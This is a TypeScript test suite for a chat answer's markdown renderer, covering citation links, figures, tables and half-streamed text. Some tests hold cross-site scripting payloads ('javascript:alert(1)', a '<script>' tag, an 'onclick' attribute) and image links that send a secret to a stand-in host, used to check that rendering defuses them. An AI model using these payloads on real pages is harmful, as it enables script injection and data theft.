import assert from "node:assert/strict";
import { test } from "node:test";
import { blocksOf, renderBlock } from "../src/chat/markdown.ts";
import { closed } from "../src/chat/unclosed.ts";

test("a citation becomes a hash link, written with or without its hash", () => {
  for (const address of ["#f12", "f12"]) {
    assert.match(renderBlock(`[parse](${address})`, null), /<a href="#f12" class="citation" title="[^"]*">parse<\/a>/);
  }
});

test("a script link stays text", () => {
  for (const address of [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,x",
    "vbscript:x",
    "&#106;avascript:x",
    "//evil.example",
    "/api/v1/traces",
  ]) {
    assert.doesNotMatch(renderBlock(`[x](${address})`, null), /<a /);
  }
});

test("raw HTML stays text", () => {
  assert.doesNotMatch(renderBlock("<script>alert(1)</script>\n\n<b onclick=x>hi</b>", null), /<(script|b)/);
});

test("an image in an answer fetches nothing", () => {
  for (const source of ["![x](https://evil.example/?q=secret)", "![x][1]\n\n[1]: https://evil.example/a.png"]) {
    assert.doesNotMatch(renderBlock(source, null), /<img/);
  }
});

test("table alignment is a class, never a style", () => {
  const html = renderBlock("| a | b |\n|:--|--:|\n| 1 | 2 |", null);
  assert.match(html, /<td class="align-right">2<\/td>/);
  assert.doesNotMatch(html, /style=/);
});

test("a half-typed link or emphasis does not show its marks while the answer grows", () => {
  assert.doesNotMatch(renderBlock("see [parseJ", closed), /\[/);
  assert.match(renderBlock("this is **hot", closed), /<strong>hot<\/strong>/);
});

test("blocks join to the same text, and a longer answer keeps its first blocks", () => {
  const text = "# Title\n\nOne\nstill one\n\n- a\n- b\n\n```js\ncode\n\nmore\n```\n\n| a |\n|---|\n| 1 |\n\nlast";
  const blocks = blocksOf(text);
  assert.equal(blocks.join("\n"), text);
  assert.equal(blocks.length, 6);
  assert.deepEqual(blocksOf(`${text} grows`).slice(0, 5), blocks.slice(0, 5));
});

test("a citation of what does not exist is no link", () => {
  const html = renderBlock(
    "[parse **JSON**](f12) and [gone](#f99) and [web](https://a.example)",
    null,
    [],
    new Set(["f12"]),
  );
  assert.deepEqual(
    [...html.matchAll(/<a href="([^"]*)"/g)].map((match) => match[1]),
    ["#f12", "https://a.example"],
  );
  assert.match(html, /<span class="uncited" title="There is no f99 in this trace">gone<\/span>/);
});

test("a figure is a link to its place, without its address in the text", () => {
  const html = renderBlock("It takes [379 ms](#f12.self/p0), [2](q2.r3.calls) times", null, [], new Set());
  assert.match(
    html,
    /It takes <a href="#f12" class="citation figure" data-address="f12.self\/p0" title="[^"]*" data-profile="p0">379 ms<\/a>/,
  );
  assert.match(html, /<span class="figure">2<\/span> times/);
});

test("a figure with an address that is none is text", () => {
  for (const address of ["#f12.speed", "#x.y", "#f12.self/p0/p1", `#f1.${"9".repeat(400)}`]) {
    assert.match(renderBlock(`[3 ms](${address})`, null), /<span class="figure">3 ms<\/span>/);
  }
  assert.doesNotMatch(renderBlock("[notes](notes.md)", null), /figure/);
});

test("half a figure's link at the end of a stream shows its label", () => {
  assert.doesNotMatch(renderBlock("It takes [379 ms](#f12.se", closed), /#f12|\[/);
  assert.match(renderBlock("`[3 ms](#f12.self)`", null), /<code>\[3 ms\]\(#f12\.self\)<\/code>/);
});
